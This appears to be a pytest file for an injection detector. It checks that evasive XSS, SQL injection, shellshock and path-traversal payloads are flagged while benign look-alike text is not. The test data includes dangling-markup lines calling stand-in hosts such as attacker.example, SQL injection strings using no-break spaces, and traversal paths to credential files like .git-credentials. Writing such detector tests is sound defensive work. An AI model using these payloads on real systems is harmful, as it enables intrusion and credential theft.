"""Payload shapes written after the public lists were scored: each is a general form, with text that
looks alike and must stay quiet."""

from __future__ import annotations

from urllib.parse import quote

from detectors.injection.analyzer import Analyzer


def _strong(analyzer: Analyzer, value: str) -> set[str]:
    fields = {"url.query": "q=" + quote(value, safe="%") + "&page=2"}
    return {f.cls for f in analyzer.findings(fields) if not f.weak}


def test_dangling_markup_and_built_names_are_xss(analyzer: Analyzer) -> None:
    loud = ["<img src='http://attacker.example/?", '<a href="//evil.example/x?', "<base href='https://e.example/",
            "window['al'+'ert'](1)", "top[\"alert\"](document.domain)", "ale'+'rt'](1)>",
            "document.body.insertAdjacentHTML('beforeend', x)", "new Worker('//evil.example/w.js')",
            "navigator.serviceWorker.register('/sw.js')", "eval(location.hash)"]
    assert [v for v in loud if "xss" not in _strong(analyzer, v)] == []
    quiet = ['<p><a href="https://shop.example/kit" target="_blank">Kit</a></p>',
             '<img src="https://cdn.example.com/a.jpg" alt="x">', "Use ['a', 'b'] (2 items)",
             "Evaluation (final) of the team", "new worker joined today", "import data from the old shop"]
    assert {v: c for v in quiet if (c := _strong(analyzer, v))} == {}


def test_a_no_break_space_separates_sql_words(analyzer: Analyzer) -> None:
    for value in ["1'%a0OR%a01=1--", "1'%C2%A0OR%C2%A01=1--", "shoes'\u00a0UNION\u00a0SELECT\u00a0NULL,NULL--"]:
        assert "sqli" in _strong(analyzer, value), value
    assert _strong(analyzer, "Prix\u00a0: 5\u00a0€ ; livraison offerte") == set()


def test_the_model_alone_never_alerts_on_one_request(analyzer: Analyzer) -> None:
    # Text unlike the model's training, with the syntax it weighs (';', '='): at most a weak finding.
    notes = ["gmp (2:6.0.0+dfsg-6) unstable; urgency=medium", "fribidi (0.10.4-3) unstable; urgency=low",
             "Colour=blue; size=XL; qty=2", "ref=spring-promo; src=newsletter"]
    for note in notes:
        findings = analyzer.findings({"http.request.body.content": '{"note": "' + note + '"}'})
        assert all(f.weak for f in findings), (note, findings)
    assert analyzer.model is not None and analyzer.model.predict("fribidi (0.10.4-3) unstable; urgency=low")


def test_attribute_breakouts_and_shellshock_variants(analyzer: Analyzer) -> None:
    assert "xss" in _strong(analyzer, '">xxx<P>yyy') and "xss" in _strong(analyzer, "'><svg>")
    assert "command" in _strong(analyzer, "() { _; } >_[$($())] { touch /tmp/x; }")
    quiet = ['<p><img src="https://cdn.example.com/a.jpg"><img src="https://cdn.example.com/b.jpg"></p>',
             '"Great" > "good" <3', "() { return 1; }"]
    assert {v: c for v in quiet if (c := _strong(analyzer, v))} == {}


def test_a_users_secret_dotfiles_are_traversal_targets(analyzer: Analyzer) -> None:
    for value in ["/home/user/.bashrc", "../../.git-credentials", "/root/.kube/config", "~/.my.cnf"]:
        assert "traversal" in _strong(analyzer, value), value
    assert _strong(analyzer, "/img/.profile-pic.jpg") == set()
